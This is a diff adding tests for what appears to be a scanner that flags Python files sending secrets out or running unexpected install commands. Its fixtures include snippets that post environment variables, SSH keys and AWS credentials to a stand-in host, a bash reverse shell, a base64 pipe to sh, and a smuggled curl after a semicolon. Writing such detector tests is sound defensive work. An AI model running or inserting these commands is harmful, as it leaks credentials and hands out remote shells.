@@ -296,3 +296,65 @@ it('a text ends where Python ends it', () => {
   assert.deepEqual(words('r"\\\r\n" b\r\nc'), ['\\\r\n b', 'c']);
   assert.deepEqual(words('f"\\{x}" + rf"\\{y}{{"'), ['\\ + \\{']);
 });
+
+describe('secrets that Python sends to another machine', () => {
+  it('are told, by whichever way it reads and sends them', async () => {
+    for (const text of [
+      'import os, requests\nrequests.post("https://c.example", json=dict(os.environ))\n',
+      'import os, requests\nrequests.post("https://c.example", json={**os.environ})\n',
+      'from os import environ as e\nimport urllib.request as u\nu.urlopen("https://c.example", data=str(dict(e)).encode())\n',
+      'import os, json, httpx\nall = os.environ.copy()\nhttpx.post("https://c.example", data={"a": json.dumps(all)})\n',
+      'import os, requests, base64\nrequests.get("https://c.example/?" + base64.b64encode(str(os.environ).encode()).decode())\n',
+      'import os, requests\nrequests.get(f"https://c.example/?d={os.environ}")\n',
+      'import os, urllib.request\nurllib.request.urlopen("https://c.example", data=open(os.path.expanduser("~/.ssh/id_rsa"), "rb").read())\n',
+      'import requests\nwith open("/root/.aws/credentials") as f:\n  data = f.read()\nrequests.post("https://c.example", data=data)\n',
+      'import requests, pathlib\nrequests.post("https://c.example", files={"f": (pathlib.Path.home() / ".ssh" / "id_ed25519").read_bytes()})\n',
+      'import socket, glob\nfor p in glob.glob("/home/*/.aws/credentials"):\n  s = socket.create_connection(("c.example", 443))\n  s.sendall(open(p, "rb").read())\n',
+      'import os\nos.system("env | curl -d @- https://c.example")\n',
+    ])
+      assert.match(await told('modeling_a.py', text), /^suspicious .*secrets-sent/, text);
+    for (const command of ['echo aWQ= | base64 -d | sh', 'bash -i >& /dev/tcp/203.0.113.7/80 0>&1'])
+      assert.match(
+        await told('a.py', `import os\nos.system(${JSON.stringify(command)})\n`),
+        /^suspicious/,
+        command,
+      );
+  });
+
+  it('and one by its name, to whom it belongs, is none', async () => {
+    for (const text of [
+      'import os, requests\nrequests.post("https://a.example", headers={"Authorization": f"Bearer {os.environ[\'KEY\']}"}, json={"a": 1})\n',
+      'import os, requests\nenv = os.environ\nrequests.post(env["HOOK"], json={"user": env.get("USER"), "n": len(env)})\n',
+      'import os, subprocess, requests\nout = subprocess.run(["make"], env=os.environ, capture_output=True)\nrequests.post("https://a.example", data=out.stdout)\n',
+      'import os, subprocess\nenv = os.environ.copy()\nenv["A"] = "1"\nsubprocess.Popen(["make"], env={**env})\nprint(dict(os.environ))\n',
+      'import requests\nt = open("/var/run/secrets/kubernetes.io/serviceaccount/token").read()\nrequests.get("https://a.example", headers={"Authorization": "Bearer " + t})\n',
+      'import json, os, requests\nc = json.load(open(os.path.expanduser("~/.docker/config.json")))\nrequests.get("https://a.example", auth=c["auths"]["a"])\n',
+      'import requests\nrequests.post("https://a.example", files={"f": open("model.bin", "rb")})\n',
+    ])
+      assert.match(await told('a.py', text), /^clean/, text);
+  });
+});
+
+it('an installer that asks the tools of its sources is clean, and one that runs others is not', async () => {
+  for (const command of [
+    '["git", "rev-parse", "HEAD"]',
+    '["nvcc", "--version"]',
+    '"pkg-config --cflags opencv", shell=True',
+  ])
+    assert.equal(
+      await told('setup.py', `import subprocess\nsubprocess.check_output(${command})\n`),
+      'clean',
+      command,
+    );
+  for (const command of [
+    '["git", "clone", "https://c.example"]',
+    '"git status; curl https://c.example"',
+    '["./run"]',
+    'words',
+  ])
+    assert.equal(
+      await told('setup.py', `import subprocess\nsubprocess.check_output(${command})\n`),
+      'suspicious install-command',
+      command,
+    );
+});
